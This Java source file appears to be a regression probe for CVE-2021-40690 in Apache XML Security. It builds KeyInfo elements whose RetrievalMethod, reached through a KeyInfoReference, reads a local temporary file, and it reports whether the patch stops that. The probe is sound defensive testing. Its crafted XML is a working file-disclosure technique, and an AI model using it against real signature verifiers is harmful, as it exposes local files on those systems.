import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPairGenerator;
import java.security.PublicKey;
import java.util.Base64;
import javax.xml.parsers.DocumentBuilderFactory;
import org.apache.xml.security.Init;
import org.apache.xml.security.keys.KeyInfo;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.xml.sax.InputSource;

/**
 * CVE-2021-40690: a KeyInfo checked with secure validation reaches a dsig11:KeyInfoReference, and
 * the KeyInfo it refers to is resolved without secure validation, so its RetrievalMethod reads a
 * local file (information disclosure). The fix passes secure validation on, refuses referenced
 * KeyInfos that contain a RetrievalMethod, and refuses file: and http: URIs for key retrieval
 * unless allowed by a system property. The "secret" file here holds an RSA public key: resolving a
 * key means the file was read.
 */
public class Probe {
  static final String DS = "http://www.w3.org/2000/09/xmldsig#";
  static final String DSIG11 = "http://www.w3.org/2009/xmldsig11#";

  static Path secret;

  static Document parse(String xml) throws Exception {
    DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
    factory.setNamespaceAware(true);
    return factory.newDocumentBuilder().parse(new InputSource(new StringReader(xml)));
  }

  static String retrievalMethod() {
    return "<ds:RetrievalMethod URI='" + secret.toUri() + "' Type='" + DS + "KeyValue'/>";
  }

  /** What a KeyInfo yields: the algorithm of the key it resolved, or "none". */
  static String resolve(KeyInfo keyInfo) {
    try {
      PublicKey key = keyInfo.getPublicKey();
      return key == null ? "none" : key.getAlgorithm();
    } catch (Exception e) {
      return e.getClass().getSimpleName();
    }
  }

  /** Secure validation on; the key is behind a KeyInfoReference to a KeyInfo with the file. */
  static String secureViaReference() throws Exception {
    Document doc =
        parse(
            "<doc xmlns:ds='"
                + DS
                + "' xmlns:dsig11='"
                + DSIG11
                + "'>"
                + "<ds:KeyInfo><dsig11:KeyInfoReference URI='#referent'/></ds:KeyInfo>"
                + "<ds:KeyInfo Id='referent'>"
                + retrievalMethod()
                + "</ds:KeyInfo></doc>");
    Element referent = (Element) doc.getElementsByTagNameNS(DS, "KeyInfo").item(1);
    referent.setIdAttributeNS(null, "Id", true);
    KeyInfo keyInfo = new KeyInfo((Element) doc.getElementsByTagNameNS(DS, "KeyInfo").item(0), "");
    keyInfo.setSecureValidation(true);
    return resolve(keyInfo);
  }

  /** Secure validation off: a RetrievalMethod to the file, directly. */
  static String insecureDirect() throws Exception {
    Document doc =
        parse("<ds:KeyInfo xmlns:ds='" + DS + "'>" + retrievalMethod() + "</ds:KeyInfo>");
    KeyInfo keyInfo = new KeyInfo(doc.getDocumentElement(), "");
    keyInfo.setSecureValidation(false);
    return resolve(keyInfo);
  }

  static String probe() throws Exception {
    return "secureViaReference=" + secureViaReference() + " insecureDirect=" + insecureDirect();
  }

  static String base64(java.math.BigInteger n) {
    byte[] bytes = n.toByteArray();
    if (bytes[0] == 0) {
      bytes = java.util.Arrays.copyOfRange(bytes, 1, bytes.length);
    }
    return Base64.getEncoder().encodeToString(bytes);
  }

  public static void main(String[] args) throws Exception {
    Init.init();
    KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
    generator.initialize(1024);
    java.security.interfaces.RSAPublicKey key =
        (java.security.interfaces.RSAPublicKey) generator.generateKeyPair().getPublic();
    String keyValue =
        "<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>"
            + base64(key.getModulus())
            + "</ds:Modulus><ds:Exponent>"
            + base64(key.getPublicExponent())
            + "</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>";
    Path dir = Files.createTempDirectory("xmlsec-probe");
    dir.toFile().deleteOnExit(); // deleted after the file, which registers later
    secret = dir.resolve("secret.xml");
    secret.toFile().deleteOnExit();
    Files.writeString(
        secret, keyValue.replaceFirst("<ds:KeyValue>", "<ds:KeyValue xmlns:ds='" + DS + "'>"));
    // Work before the update: a KeyInfo with its key inline resolves under secure validation.
    KeyInfo inline =
        new KeyInfo(
            parse("<ds:KeyInfo xmlns:ds='" + DS + "'>" + keyValue + "</ds:KeyInfo>")
                .getDocumentElement(),
            "");
    inline.setSecureValidation(true);
    if (!"RSA".equals(resolve(inline))) {
      throw new IllegalStateException("an inline key does not resolve: " + resolve(inline));
    }
    probe();
    System.out.println("ready");
    BufferedReader in = new BufferedReader(new InputStreamReader(System.in));
    for (String line; (line = in.readLine()) != null; ) {
      System.out.println("RESULT " + probe());
    }
  }
}
